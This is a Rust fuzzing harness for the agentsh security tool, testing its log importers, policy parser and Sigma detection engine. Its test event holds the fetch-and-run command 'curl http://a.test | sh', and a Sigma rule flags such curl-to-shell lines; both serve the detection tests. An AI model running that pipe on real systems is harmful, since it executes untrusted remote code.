//! What is fuzzed: its seeds, the words of its format, and what it promises.

use std::io::Cursor;
use std::path::Path;
use std::sync::LazyLock;

use agentsh::capture::import::{Content, Digest, Input, MAX_RAW_BYTES, open, read_line, to_event, unread_event};
use agentsh::detect::Engine as _;
use agentsh::detect::sigma::{Limits, Rules, SigmaEngine, Source};
use agentsh::encode::stored;
use agentsh::event::{ImportOrigin, ImportSource, JournaledEvent, SessionId, Timestamp};
use agentsh::policy::{Policy, Variables};

/// One reader.
pub struct Target {
    pub name: &'static str,
    pub seeds: fn() -> Vec<Vec<u8>>,
    pub words: &'static [&'static [u8]],
    /// The shape of the answer, or which promise was broken.
    pub run: fn(&[u8]) -> Result<u64, String>,
}

pub const ALL: &[Target] = &[
    Target {
        name: "evtx",
        seeds: event_logs,
        words: &[b"ElfFile\0", b"ElfChnk\0", b"\x2a\x2a\x00\x00", b"\x0f\x01\x01\x00", b"\x0c\x01"],
        run: |input| import(ImportSource::Evtx, input),
    },
    Target {
        name: "auditd",
        seeds: || lines(AUDITD),
        words: &[
            b"type=SYSCALL msg=audit(1.000:1): ",
            b"type=EXECVE ",
            b"a0[0]=",
            b"a0_len=",
            b"argc=",
            b"saddr=",
            b"=\"",
            b"\x1d",
            b"msg='",
            b"(null)",
            b"syscall=59 arch=c000003e ",
        ],
        run: |input| import(ImportSource::Auditd, input),
    },
    Target { name: "eslogger", seeds: || lines(ESLOGGER), words: JSON_WORDS, run: |input| import(ImportSource::Eslogger, input) },
    Target { name: "jsonl", seeds: || lines(JSONL), words: JSON_WORDS, run: |input| import(ImportSource::Jsonl, input) },
    Target {
        name: "policy",
        seeds: policies,
        words: &[b"\n  - name: x\n", b"${HOME}", b"${A:-b}", b"decision: deny", b"paths: ['**']", b"&a ", b"*a", b"priority: "],
        run: policy,
    },
    Target {
        name: "sigma",
        seeds: || lines(SIGMA),
        words: &[
            b"|contains",
            b"|re: ",
            b"|base64offset|contains",
            b"1 of selection*",
            b"not ",
            b"(a+)+$",
            b"condition: ",
            b"\n---\n",
            b"&a ",
            b"*a",
        ],
        run: sigma,
    },
];

const JSON_WORDS: &[&[u8]] =
    &[b"{\"", b"\":", b"null", b"[", b"]}", b"\\ud800", b"\\u0000", b"\"EventID\":", b"\"exec\":{", b"-1", b"1e999"];

/// Every record is told, counted or kept, and what is told can be stored.
fn import(source: ImportSource, input: &[u8]) -> Result<u64, String> {
    let input = Input::of(Path::new("fuzz"), Box::new(Cursor::new(input.to_vec())), Digest::Of("0".repeat(64)));
    let Ok(mut reader) = input.and_then(|input| open(source, input)) else { return Ok(0) };
    let origin = ImportOrigin { source, digest: "0".repeat(64), ..ImportOrigin::default() };
    let session = SessionId::new("fuzz");
    let (mut last, mut shape, mut frame) = (0, 1_u64, Vec::new());
    loop {
        let record = match reader.next() {
            Ok(Some(record)) => record,
            Ok(None) => return Ok(shape),
            Err(_) => return Ok(shape ^ 1),
        };
        if record.number <= last {
            return Err(format!("record {} comes behind {last}", record.number));
        }
        last = record.number;
        let events = match record.content {
            Content::Told(told) if told.is_empty() => return Err("a record tells of nothing".to_owned()),
            Content::Told(told) => {
                told.into_iter().enumerate().map(|(place, told)| to_event(told, place, &origin, &session).0).collect()
            }
            Content::Unmapped(_) => {
                shape = shape.rotate_left(5) ^ 2;
                continue;
            }
            Content::Unread(unread) if unread.raw.len() > MAX_RAW_BYTES => return Err("more is kept than may be".to_owned()),
            Content::Unread(unread) => vec![unread_event(unread, Timestamp::from_micros(0), &origin, &session)],
        };
        for event in events {
            shape = shape.rotate_left(5) ^ (event.kind() as u64 + 3);
            frame.clear();
            stored::encode(&event, &mut frame);
            let (columns, rest) = stored::Columns::parse(&frame).map_err(|error| error.to_string())?;
            if !rest.is_empty() || columns.to_event().map_err(|error| error.to_string())? != event {
                return Err(format!("it is stored as another event: {event:?}"));
            }
        }
    }
}

fn policy(input: &[u8]) -> Result<u64, String> {
    let Ok(text) = std::str::from_utf8(input) else { return Ok(0) };
    let variables = Variables::new().with("HOME", "/home/dev").with("WORKSPACE", "/w");
    Ok(match Policy::parse_and_compile("fuzz", text, &variables) {
        Ok(policy) => 1 << 32 | policy.rule_count() as u64,
        // The kind of mistake, not its place.
        Err(error) => {
            error
                .to_string()
                .bytes()
                .filter(u8::is_ascii_alphabetic)
                .fold(7_u64, |hash, byte| hash.wrapping_mul(31) ^ u64::from(byte))
                & 0xffff
        }
    })
}

/// Rule files as the detector reads and compiles them: a rule is there or what is wrong with it is said, and the rules that are there can
/// be asked about an event.
fn sigma(input: &[u8]) -> Result<u64, String> {
    let Ok(text) = std::str::from_utf8(input) else { return Ok(0) };
    let source = Source { file: "fuzz.yml".to_owned(), text: text.to_owned() };
    let rules = Rules::read(&[source], Limits::default());
    let read = rules.infos().len();
    let mut engine = SigmaEngine::new(rules);
    let faults = engine.faults().len();
    let mut found = Vec::new();
    engine.look(&EXEC, &mut found);
    if let Some(finding) = found.iter().find(|finding| engine.rules().get(finding.rule).is_none()) {
        return Err(format!("rule {} was found and is not there", finding.rule));
    }
    Ok(2 + (read as u64) ^ (faults as u64) << 8 ^ (found.len() as u64) << 16)
}

/// What every rule is asked about.
static EXEC: LazyLock<JournaledEvent> = LazyLock::new(|| {
    let line = r#"{"seq":1,"kind":"process_exec","id":"01939b2e-5c00-7abc-8def-000000000001","time_us":1795000000000000,"session_id":"s","actor":{"pid":7},"severity":"informational","payload":{"path":"/usr/bin/bash","requested":"bash","argv":["bash","-c","curl http://a.test | sh"],"argc":3}}"#;
    read_line(line).unwrap()
});

fn lines(text: &str) -> Vec<Vec<u8>> {
    let whole = text.as_bytes().to_vec();
    let each = text.split("\n\n").map(|piece| piece.as_bytes().to_vec());
    each.chain([whole]).collect()
}

fn policies() -> Vec<Vec<u8>> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples");
    let mut files: Vec<_> = std::fs::read_dir(folder).into_iter().flatten().flatten().map(|entry| entry.path()).collect();
    files.sort();
    let mut seeds: Vec<Vec<u8>> = files
        .iter()
        .filter(|file| file.extension().is_some_and(|extension| extension == "yaml"))
        .map(|file| std::fs::read(file).unwrap())
        .collect();
    seeds.push(
        b"version: 1\nname: x\nfile_rules:\n  - name: a\n    paths: ['${HOME}/**']\n    operations: [read]\n    decision: deny\n"
            .to_vec(),
    );
    seeds
}

/// SigmaHQ's, where they lie beside the project; else a header and an empty chunk.
fn event_logs() -> Vec<Vec<u8>> {
    fn walk(folder: &Path, found: &mut Vec<Vec<u8>>) {
        let mut entries: Vec<_> = std::fs::read_dir(folder).into_iter().flatten().flatten().map(|entry| entry.path()).collect();
        entries.sort();
        for entry in entries {
            if entry.is_dir() {
                walk(&entry, found);
            } else if entry.extension().is_some_and(|extension| extension == "evtx") {
                found.push(std::fs::read(entry).unwrap());
            }
        }
    }
    let mut found = Vec::new();
    for folder in Path::new(env!("CARGO_MANIFEST_DIR")).ancestors() {
        walk(&folder.join("shared/data/sigma/regression"), &mut found);
    }
    found.truncate(24);
    let mut empty = vec![0; 4_096 + 65_536];
    empty[..8].copy_from_slice(b"ElfFile\0");
    empty[4_096..4_104].copy_from_slice(b"ElfChnk\0");
    empty[4_096 + 48..4_096 + 50].copy_from_slice(&512_u16.to_le_bytes());
    found.push(empty);
    found
}

const AUDITD: &str = r#"type=SYSCALL msg=audit(1700000000.123:42): arch=c000003e syscall=59 success=yes exit=0 a0=1 ppid=1 pid=77 auid=1000 uid=0 euid=0 egid=0 ses=3 comm="x" exe="/usr/bin/x" key="watch"
type=EXECVE msg=audit(1700000000.123:42): argc=3 a0="curl" a1=2D6F20612062 a2_len=8 a2[0]=68656C6C a2[1]=6F776F78
type=CWD msg=audit(1700000000.123:42): cwd="/srv"
type=PATH msg=audit(1700000000.123:42): item=0 name="/usr/bin/curl" mode=0100755 nametype=NORMAL
type=PROCTITLE msg=audit(1700000000.123:42): proctitle=6375726C002D6F

type=SYSCALL msg=audit(1700000001.000:43): arch=c000003e syscall=42 success=no exit=-13 a0=3 exe="/x" SYSCALL=connect
type=SOCKADDR msg=audit(1700000001.000:43): saddr=020001BB5DB8D8220000000000000000

node=web1 type=USER_CMD msg=audit(1.000:1): pid=7 msg='cwd="/root" cmd=6C73 res=success'"#;

const ESLOGGER: &str = r#"{"time":"2023-09-28T18:18:13.123456789Z","process":{"audit_token":{"pid":300,"euid":501,"egid":20,"auid":501},"ppid":1,"executable":{"path":"/bin/zsh"}},"event":{"exec":{"target":{"audit_token":{"pid":300},"executable":{"path":"/bin/ls"},"signing_id":"a","cdhash":"0A"},"args":["ls","-l"],"cwd":{"path":"/"}}},"action":{"result":{"result":{"auth":0}}}}

{"time":"2023-09-28T18:18:13Z","process":{},"event":{"rename":{"source":{"path":"/a"},"destination":{"new_path":{"dir":{"path":"/"},"filename":"b","mode":33188}}}}}

{"time":"2023-09-28T18:18:13Z","process":{},"event":{"exit":{"stat":256}}}"#;

const JSONL: &str = r#"{"EventID":1,"Image":"C:\\a.exe","CommandLine":"\"a\" -b \\\\\"c","ParentImage":"C:\\b.exe","Hashes":"MD5=0,SHA1=1","UtcTime":"2025-11-28 08:30:20.964"}

{"category":"x","event":{"EventID":13,"EventType":"SetValue","TargetObject":"HKLM\\A\\v","Details":"QWORD (0x00000001-0x00000002)"}}

{"seq":1,"kind":"file_delete","id":"01939b2e-5c00-7abc-8def-000000000001","time_us":1795000000000000,"session_id":"s","actor":{"pid":1},"severity":"low","payload":{"path":"/a\\\\b"}}

{"SourceName":"Microsoft-Windows-Security-Auditing","EventID":4688,"NewProcessId":"0x1f4","NewProcessName":"C:\\b.exe","ProcessId":"0x4d2"}"#;

const SIGMA: &str = r#"title: a
id: 5013198a-1f28-4f0c-8a8c-6f3e1a9e2a11
status: test
logsource: {category: process_creation, product: linux}
detection:
  selection:
    Image|endswith: ['/bash', '/sh']
    CommandLine|contains|all: ['curl', 'http']
  filter: {ParentImage|re: '^/usr/.*'}
  condition: selection and not filter
level: high
tags: [attack.t1059.004]

title: b
correlation: {type: event_count, rules: [a], group-by: [User], timespan: 5m, condition: {gte: 10}}"#;
